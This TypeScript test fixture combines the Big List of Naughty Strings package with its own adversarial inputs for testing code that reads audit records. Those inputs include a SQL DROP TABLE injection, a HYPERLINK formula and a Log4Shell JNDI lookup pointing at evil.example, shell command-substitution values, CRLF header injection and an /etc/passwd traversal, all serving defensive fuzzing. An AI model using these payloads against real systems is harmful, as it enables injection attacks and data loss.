import { createRequire } from 'node:module';

const list: unknown = createRequire(import.meta.url)('big-list-of-naughty-strings');
if (!Array.isArray(list)) throw new Error('it is not a list');

/** Odd for what reads records afterwards: lines, shells, terminals, spreadsheets, SQL, JSON. */
const OWN = [
  'a\r\nb\u001b[31m\u007f\u0085\u2028\u2029c',
  '{"outcome":"issued"}\n{"outcome":"issued"}',
  '","outcome":"issued","x":"',
  '\\","hash":"00"}',
  `'; DROP TABLE audit_records; --"`,
  '\u202egro.elgoog\u202c e\u0301',
  '𝕒😀\u{10ffff}',
  '\ufeffa\ufffe\uffff',
  '1e400 null {"a":[]}',
  '=HYPERLINK("http://evil.example","x")',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '%00',
  '%0d%0aSet-Cookie:x',
  '${jndi:ldap://evil.example/a}',
  '$(id)',
  '`id`',
  '; id',
  '| id',
  '&& id',
  '../../../../etc/passwd',
  'C:\\\\NUL',
  '__proto__',
  'constructor',
  'toString',
  '[object Object]',
  'NaN',
  '-0',
  '0x10',
  ' leading and trailing ',
  '\u00a0',
  '\u3000',
  '\u200b',
  'ﬁ',
  'ı',
  'İ',
  'ß',
  'é'.repeat(8_192),
];

/** The Big List of Naughty Strings, and those of ours. */
export const NAUGHTY_STRINGS: readonly string[] = [...list.map(String), ...OWN];
